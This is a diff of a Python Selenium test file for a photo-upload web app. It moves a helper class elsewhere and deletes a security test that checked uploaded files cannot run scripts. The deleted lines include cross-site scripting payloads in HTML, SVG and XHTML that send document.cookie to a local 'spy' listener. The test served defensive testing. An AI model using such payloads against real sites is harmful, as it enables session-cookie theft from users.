@@ -1,16 +1,11 @@
-"""A person and pictures, in a real Chromium: brought, looked at, had back after everything was killed; and what
-others might bring to harm them.
-"""
+"""A person and pictures, in a real Chromium: brought, looked at, had back after everything was killed."""
 
 import contextlib
 import io
 import random
-import threading
 import zipfile
 from collections.abc import Iterator
-from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
-from urllib.parse import quote
 
 import psutil
 import pytest
@@ -19,9 +14,10 @@ from selenium import webdriver
 from selenium.webdriver.common.by import By
 from selenium.webdriver.common.keys import Keys
 
-from tests.conftest import PASSWORD, SHOEBOX, Server, User, serving
+from tests.conftest import PASSWORD, SHOEBOX, Server, serving
 from tests.kit.bombs import png
-from tests.kit.browser import Person, complaints, opened
+from tests.kit.browser import complaints, opened
+from tests.kit.keeper import Keeper
 
 
 @pytest.fixture
@@ -42,40 +38,6 @@ def pictures(tmp_path: Path) -> list[Path]:
         made.append(folder / f"IMG_{number}.jpg")
         small.resize((640, 480)).save(made[-1])
     return made
-
-
-class Keeper(Person):
-    """A person with pictures."""
-
-    def brings(self, *paths: Path) -> None:
-        """By the dialog for files."""
-        self.browser.find_element(By.ID, "picture-files").send_keys("\n".join(map(str, paths)))
-
-    def drops(self, *paths: Path) -> None:
-        """By dragging them onto the page: events of the browser itself."""
-        data = {"items": [], "files": [str(path) for path in paths], "dragOperationsMask": 1}
-        for kind in ("dragEnter", "dragOver", "drop"):
-            drag = {"type": kind, "x": 300, "y": 500, "data": data}
-            self.browser.execute_cdp_cmd("Input.dispatchDragEvent", drag)
-
-    def names(self, grid: str = "#grid") -> list[str]:
-        """Of the pictures that show, and whose thumbnail is there."""
-        images = self.browser.find_elements(By.CSS_SELECTOR, f"{grid} img")
-        for image in images:
-            self.browser.execute_script("arguments[0].scrollIntoView()", image)
-            self.wait(lambda _, each=image: self.browser.execute_script("return arguments[0].naturalWidth > 0", each))
-        return [image.get_attribute("alt") or "" for image in images]
-
-    def sees_pictures(self, number: int, grid: str = "#grid") -> None:
-        self.wait(lambda _: len(self.browser.find_elements(By.CSS_SELECTOR, f"{grid} .tile")) == number)
-
-    def ticks(self, grid: str, *places: int) -> None:
-        self.wait(lambda _: len(self.browser.find_elements(By.CSS_SELECTOR, f"{grid} .tick input")) > max(places))
-        for box in [self.browser.find_elements(By.CSS_SELECTOR, f"{grid} .tick input")[place] for place in places]:
-            self.browser.execute_script("arguments[0].click()", box)
-
-    def presses(self, key: str) -> None:
-        self.browser.switch_to.active_element.send_keys(key)
 
 
 def test_pictures_are_there_after_everything_was_killed(
@@ -213,96 +175,6 @@ def test_what_fails_says_why_and_can_be_tried_again(
         person.clicks("#uploads-list .failed button")
         person.sees_pictures(2)
         person.wait(lambda _: not person.sees("#uploads"))
-
-
-class Spy(BaseHTTPRequestHandler):
-    """Serves the scripts as any careless server would, and hears what they tell."""
-
-    heard: list[str] = []
-    pages: dict[str, tuple[str, bytes]] = {}
-
-    def do_GET(self) -> None:
-        kind, content = self.pages.get(self.path, ("text/plain", b""))
-        if self.path.startswith("/heard"):
-            self.heard.append(self.path)
-        self.send_response(200)
-        self.send_header("content-type", kind)
-        self.send_header("access-control-allow-origin", "*")
-        self.send_header("content-length", str(len(content)))
-        self.end_headers()
-        self.wfile.write(content)
-
-    def log_message(self, *words: object) -> None:
-        pass
-
-
-@pytest.fixture
-def spy() -> Iterator[str]:
-    server = ThreadingHTTPServer(("127.0.0.1", 0), Spy)
-    thread = threading.Thread(target=server.serve_forever, daemon=True)
-    thread.start()
-    Spy.heard.clear()
-    Spy.pages.clear()
-    try:
-        yield f"http://127.0.0.1:{server.server_port}"
-    finally:
-        server.shutdown()
-        server.server_close()
-
-
-def harmful(spy: str, name: str) -> dict[str, tuple[str, bytes]]:
-    """Files with a script that tells the spy that it ran, and the cookie: name → type, content."""
-    tell = f"new Image().src='{spy}/heard/{name}?'+document.cookie;fetch('{spy}/heard/{name}');document.title='ran'"
-    page = f'<!doctype html><title>x</title><script>{tell}</script><img src=x onerror="{tell}">'.encode()
-    drawing = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{tell}"><script>{tell}</script></svg>'.encode()
-    xhtml = f'<html xmlns="http://www.w3.org/1999/xhtml"><script>{tell}</script></html>'.encode()
-    return {
-        "page.html": ("text/html", page),
-        "drawing.svg": ("image/svg+xml", drawing),
-        "page.xhtml": ("application/xhtml+xml", xhtml),
-        "picture.png": ("image/png", page),
-        "words.txt": ("text/plain", page),
-        "no type": ("text/html", page),
-    }
-
-
-def test_scripts_in_files_never_run(shoebox: Server, tmp_path: Path, chromium: webdriver.Chrome, spy: str) -> None:
-    """Opened as a file, by a link, and within a page of the same server: no script runs, no cookie is told."""
-    chromium.execute_cdp_cmd(
-        "Browser.setDownloadBehavior", {"behavior": "allow", "downloadPath": str(tmp_path / "got")}
-    )
-    with User(shoebox, "victim@example.com") as user:
-        user.sign_up()
-        chromium.get(shoebox.url)
-        for name, value in user.cookies.items():
-            chromium.add_cookie({"name": name, "value": value, "httpOnly": True, "path": "/"})
-        chromium.refresh()
-        Keeper(chromium).waits_for("body.signed-in")
-        assert chromium.execute_script("return document.cookie") == ""
-        opened_files = []
-        for name, (kind, content) in harmful(spy, "stored").items():
-            assert user.post("/files", files={"file": (name, content, kind)}).status_code == 200
-            link = user.post("/files/link", json={"name": name}).json()["url"]
-            opened_files += [f"/files/content/{quote(name)}", link]
-        for path in opened_files:
-            chromium.get(shoebox.url)
-            chromium.get(shoebox.url + path)
-            assert chromium.title != "ran", path
-        chromium.get(shoebox.url)
-        embed = """
-            const kinds = { iframe: "src", object: "data", embed: "src", img: "src" };
-            for (const path of arguments[0]) for (const [kind, key] of Object.entries(kinds))
-                document.body.append(Object.assign(document.createElement(kind), { [key]: path }));
-        """
-        chromium.execute_script(embed, opened_files)
-        # the same, from a server that doesn't care, is heard: so would have been what came before it
-        careless = harmful(spy, "careless")
-        Spy.pages |= {f"/{name}": page for name, page in careless.items()}
-        for name in ("page.html", "drawing.svg", "page.xhtml"):
-            Spy.heard[:] = [each for each in Spy.heard if "stored" in each]
-            chromium.get(f"{spy}/{name}")
-            Keeper(chromium).wait(lambda _: any("careless" in each for each in Spy.heard))
-        assert not [each for each in Spy.heard if "stored" in each], Spy.heard
 
 
 def test_nothing_overflows_on_a_phone(shoebox: Server, chromium: webdriver.Chrome, pictures: list[Path]) -> None:
